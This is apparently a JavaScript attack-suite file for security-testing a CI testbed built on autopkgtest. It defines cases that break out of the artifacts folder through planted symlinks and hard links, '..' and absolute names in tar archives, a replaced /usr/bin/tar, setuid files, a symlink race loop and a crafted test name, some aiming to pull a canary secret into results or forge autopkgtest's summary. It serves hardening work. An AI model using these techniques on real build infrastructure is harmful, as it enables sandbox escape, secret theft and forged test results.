import { proved } from "../package.js";
import { tarOf } from "../tar.js";

/** The testbed's own tar is replaced by one that sends what the attack has prepared. */
const sendOwnTar = `cp debian/evil.tar /evil.tar
mv /usr/bin/tar /usr/bin/tar.real
cat >/usr/bin/tar <<'EOF'
#!/bin/sh
case "$*" in *artifacts*) exec cat /evil.tar ;; esac
exec tar.real "$@"
EOF
chmod 755 /usr/bin/tar`;

/** A ticket whose tests prepare one thing, then send a tar of their own making, then do another. */
function artifacts({ prepare = [], tar, after = [] }) {
  return (here) => {
    const scripts = [
      ...prepare.map((script) => script(here)),
      ...(tar === undefined ? [] : [sendOwnTar]),
      ...after.map((script) => script(here)),
    ];
    return [
      {
        source: here.name,
        tests: scripts.map((script, index) => ({
          name: `t${index + 1}`,
          root: true,
          fresh: true,
          script: proved(here.id, script),
        })),
        files: tar === undefined ? {} : { "debian/evil.tar": tarOf(tar(here)) },
      },
    ];
  };
}

const linkTo = (target) => (here) =>
  `ln -s "${target(here)}" "$AUTOPKGTEST_ARTIFACTS/d"`;
const toCanary = linkTo(({ canary }) => canary.folder);
const upTo = (folder) => `${"../".repeat(12)}${folder.slice(1)}`;

/** @type {import("../attack.js").Attack[]} */
export const attacks = [
  {
    id: "s1-planted-link",
    row: "S1",
    boundary: "test",
    quick: true,
    before: "succeeds",
    tries:
      "a test leaves a link among its artifacts, the next sends a file through it",
    ticket: artifacts({
      prepare: [toCanary],
      tar: () => [{ name: "d/planted", content: "hi\n" }],
    }),
  },
  {
    id: "s1-hard-link",
    row: "S1",
    boundary: "test",
    before: "succeeds",
    tries:
      "a hard link through a planted link brings a secret into the results",
    ticket: artifacts({
      prepare: [toCanary],
      tar: () => [{ name: "stolen", type: "1", link: "d/precious.txt" }],
    }),
  },
  {
    id: "s1-one-archive",
    row: "S1",
    boundary: "test",
    before: "held",
    tries: "link and file through it in one archive, and a link as the folder",
    ticket: artifacts({
      tar: ({ canary }) => [
        { name: "d", type: "2", link: canary.folder },
        { name: "d/planted", content: "hi\n" },
        { name: ".", type: "2", link: canary.folder },
        { name: "./planted", content: "hi\n" },
      ],
    }),
  },
  {
    id: "s1-odd-names",
    row: "S1",
    boundary: "test",
    before: "held",
    tries: "absolute names and names with .. in the archive of artifacts",
    ticket: artifacts({
      tar: ({ canary: { folder } }) => [
        { name: `${folder}/absolute`, content: "hi\n" },
        { name: `${upTo(folder)}/up`, content: "hi\n" },
        { name: `a/${upTo(folder)}/in`, content: "hi\n" },
      ],
    }),
  },
  {
    id: "s1-log-through-link",
    row: "S1",
    boundary: "test",
    before: "succeeds",
    tries:
      "the artifacts reach the folder above: the log of the next test becomes a link",
    ticket: artifacts({
      prepare: [linkTo(() => "..")],
      tar: ({ canary }) => [
        { name: "d/t3-stdout", type: "2", link: `${canary.folder}/planted` },
      ],
      after: [() => "echo through the link"],
    }),
  },
  {
    id: "s1-forged-result",
    row: "S1",
    boundary: "test",
    before: "succeeds",
    tries:
      "the artifacts reach the folder above, where autopkgtest's summary is",
    ticket: artifacts({
      prepare: [linkTo(() => "..")],
      tar: () => [{ name: "d/forged-by-a-test", content: "forged\n" }],
    }),
    look: (here, { results }) =>
      results.includes(` ${here.name}/forged-by-a-test`)
        ? "a test wrote beside autopkgtest's own log and summary"
        : undefined,
  },
  {
    id: "s1-special-files",
    row: "S1",
    boundary: "test",
    before: "succeeds",
    tries: "FIFOs, setuid files and links among the artifacts",
    ticket: artifacts({
      prepare: [
        () => `cd "$AUTOPKGTEST_ARTIFACTS"
mkfifo fifo; ln -s /etc/passwd link; cp /bin/true setuid; chmod 6755 setuid`,
      ],
      tar: () => [
        { name: "fifo2", type: "6" },
        { name: "setuid2", mode: 0o6755, content: "hi\n" },
      ],
    }),
    look: (_here, { results }) => {
      const special = results
        .split("\n")
        .find((line) =>
          /^(?:[pbcsl]|-..[sS]|-.....[sS])\S* \S+\/\S+ /.test(line),
        );
      return special && `among the results: ${special}`;
    },
  },
  {
    id: "own-deep-artifacts",
    row: "own",
    boundary: "test",
    before: "succeeds",
    tries:
      "folders among the artifacts whose path is longer than a path may be, for whoever removes them",
    land: { timeoutMs: 230_000 },
    ticket: (here) => [
      {
        source: here.name,
        tests: [
          {
            name: "deep",
            script: proved(
              here.id,
              `cd "$AUTOPKGTEST_ARTIFACTS" && perl -e 'for (1 .. 18) { my $d = "a" x 224; mkdir $d, 0777 or die $!; chdir $d or die $! }'`,
            ),
          },
        ],
      },
    ],
    look: async ({ place }, _told, { code }) => {
      if (code === 70) return "land came to an end that nobody had thought of";
      const expired = await place.ci(["expire"]);
      return expired.code === 0 ? undefined : `expire: ${expired.stderr}`;
    },
  },
  {
    id: "s1-folder-is-link",
    row: "S1",
    boundary: "test",
    before: "held",
    tries:
      "the artifacts' folder is itself a link, and changes while it is copied",
    ticket: artifacts({
      prepare: [
        ({ canary: { folder } }) => `rm -rf "$AUTOPKGTEST_ARTIFACTS"
mkdir -p ${folder} /tmp/other
ln -s ${folder} "$AUTOPKGTEST_ARTIFACTS"
touch ${folder}/inside
setsid sh -c 'while :; do ln -sfn /tmp/other "$0"; ln -sfn ${folder} "$0"; done' "$AUTOPKGTEST_ARTIFACTS" >/dev/null 2>&1 &`,
      ],
    }),
  },
  {
    id: "s1-test-name",
    row: "S1",
    boundary: "test",
    before: "held",
    tries: "a test is named so that its log would lie outside",
    ticket: (here) => [
      {
        source: here.name,
        files: {
          "debian/tests/control": `Tests: plain\nRestrictions: allow-stderr\n\nTest-Command: echo named\nFeatures: test-name=${upTo(here.canary.folder)}/planted\nRestrictions: allow-stderr\n`,
          "debian/tests/plain": `#!/bin/sh\n${proved(here.id, ":")}`,
        },
      },
    ],
    // autopkgtest itself may refuse such a name.
    isCarriedOut: ({ status }) =>
      status.tests.length > 0 || status.failure !== null,
  },
];
